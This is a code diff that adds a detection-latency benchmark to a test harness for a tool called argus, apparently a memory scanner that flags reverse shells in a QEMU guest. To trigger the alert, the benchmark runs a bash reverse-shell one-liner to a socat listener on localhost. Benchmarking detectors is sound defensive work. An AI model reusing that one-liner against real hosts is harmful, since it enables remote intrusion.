@@ -67,6 +67,38 @@ def service_cpu(argus, g, seconds=20):
         return 100 * (c1 - c0) / (t1 - t0)
 
 
+def detection_latency(argus, g, runs=5):
+    """Attack start (the command sent to the guest) to the alert in the
+    event log, at the default 1 s scan interval."""
+    lat = []
+    with tempfile.TemporaryDirectory() as d:
+        cfg = os.path.join(d, "argus.yaml")
+        log = os.path.join(d, "events", "argus-events.log")
+        with open(cfg, "w") as f:
+            f.write(f"service:\n  scanner_sleep: 1s\n  debug_log_folder: {d}/debug\n"
+                    f"argus:\n  systems:\n    - name: bench\n      source: qemu:{g.ram_path}\n"
+                    f"output:\n  stdout: false\n  log_folder: {d}/events\n")
+        p = subprocess.Popen([argus, "run", "--config", cfg], stdout=subprocess.DEVNULL)
+        time.sleep(4)
+        for i in range(runs):
+            port = 5000 + i
+            lis = g.spawn(f"sleep 100 | socat TCP-LISTEN:{port},reuseaddr -")
+            time.sleep(1)
+            seen = open(log).read().count("Reverse Shell Detected")
+            t0 = time.monotonic()
+            sh = g.spawn(f"bash -c 'exec bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1'")
+            while open(log).read().count("Reverse Shell Detected") == seen:
+                time.sleep(0.01)
+                if time.monotonic() - t0 > 10:
+                    break
+            lat.append(time.monotonic() - t0)
+            g.run(f"kill -9 -{lis} -{sh}")
+            time.sleep(1)
+        p.terminate()
+        p.wait()
+    return lat
+
+
 def main():
     argus = os.path.abspath(sys.argv[1])
     g = Guest("bench")
@@ -94,6 +126,9 @@ def main():
                 f"{r[5]} fds, {r[6]} memory areas")
         g.run("killall sleep")
         row("service CPU at a 100 ms scan interval (20 s)", f"{service_cpu(argus, g):.1f} % of one core")
+        lat = detection_latency(argus, g)
+        row("reverse shell: attack start to alert written, 1 s scans",
+            f"p50 {statistics.median(lat) * 1000:.0f} ms, max {max(lat) * 1000:.0f} ms ({len(lat)} attacks)")
     finally:
         g.stop()
 
